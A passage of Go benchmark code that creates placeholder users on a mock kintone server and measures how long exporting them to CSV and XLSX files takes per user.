		users[i] = kintone.UserInput{Code: fmt.Sprintf("b%04d", i), Name: ptr("Bench User"), Password: ptr(kintone.Secret("Pass-word-1")), Email: ptr(fmt.Sprintf("b%04d@example.com", i))}
	}
	srv := kintonetest.NewServer(kintonetest.WithUsers(users...))
	defer srv.Close()
	c := client(b, srv)
	for _, ext := range []string{".csv", ".xlsx"} {
		b.Run(ext[1:], func(b *testing.B) {
			path := filepath.Join(b.TempDir(), "users"+ext)
			for b.Loop() {
				if _, err := export.Users(b.Context(), c, path, export.Options{}); err != nil {
					b.Fatal(err)
				}
			}
			b.ReportMetric(float64(b.Elapsed().Microseconds())/float64(b.N*n), "µs/user")
		})
	}
}
